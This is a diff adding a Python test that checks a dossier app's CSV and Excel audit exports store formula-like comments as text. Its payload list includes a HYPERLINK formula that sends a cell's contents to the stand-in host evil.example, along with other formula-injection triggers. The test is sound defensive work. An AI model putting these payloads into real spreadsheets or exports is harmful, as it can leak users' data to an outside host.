@@ -300,3 +300,28 @@ def test_dashboard_columns_come_from_the_sets_in_force(people, as_user, tmp_path
     assert "xa-ntm-19.2" not in html and "III.2" not in html
     html = page(client.get("/reports/dashboard?year=2024"))
     assert "xa-ntm-19.2" in html and "III.2" in html and "xa-ntm-2026" not in html
+
+
+INJECTED = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1",
+            "\r=1+1"]
+
+
+def test_exports_keep_typed_text_as_text(people, make_dossier, as_user):
+    """A comment that looks like a formula reaches the inspector's CSV and Excel files as text."""
+    from workflow_app.dossiers import operations as ops
+    from workflow_app.transaction import unit_of_work
+
+    dossier = make_dossier(COMMUNE, "xa-ntm-19.2", "commune_submitted")
+    for text_ in INJECTED:
+        with unit_of_work():
+            ops.add_comment(people["district_officer"], dossier, text_)
+    client = as_user(people["inspector"])
+    rows = list(csv.reader(io.StringIO(client.get("/audit/export.csv").data.decode("utf-8-sig"))))
+    comments = {row[11] for row in rows[1:]}
+    for text_ in INJECTED:
+        assert "'" + text_.strip() in comments  # written with a leading apostrophe, never as a formula
+    book = load_workbook(io.BytesIO(client.get("/audit/export.xlsx").data))
+    cells = [row[11] for row in book.active.iter_rows(min_row=2)]
+    for text_ in INJECTED:
+        cell = next(c for c in cells if c.value == text_.strip())
+        assert cell.data_type == "s"
